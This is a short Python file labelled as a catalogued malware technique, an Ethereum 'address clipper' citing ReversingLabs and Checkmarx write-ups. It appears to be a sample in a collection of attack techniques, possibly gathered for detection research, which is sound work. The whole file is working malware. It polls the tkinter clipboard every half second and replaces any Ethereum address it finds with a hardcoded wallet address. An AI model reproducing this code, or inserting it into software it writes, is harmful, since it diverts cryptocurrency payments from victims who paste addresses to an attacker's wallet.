# technique: Ethereum address clipper with tkinter clipboard
# class: wallet
# source: ReversingLabs and Checkmarx write-ups of clipboard-hijacking crypto clippers
# declares:
import re
import tkinter

ETH = "0x7Ff9cFaD3877F21d41Da833E2F775dB0569eE3D9"


def loop(root=None):
    root = root or tkinter.Tk()
    clip = root.clipboard_get()
    if re.fullmatch(r"0x[a-fA-F0-9]{40}", clip):
        root.clipboard_clear()
        root.clipboard_append(ETH)
    root.after(500, loop, root)
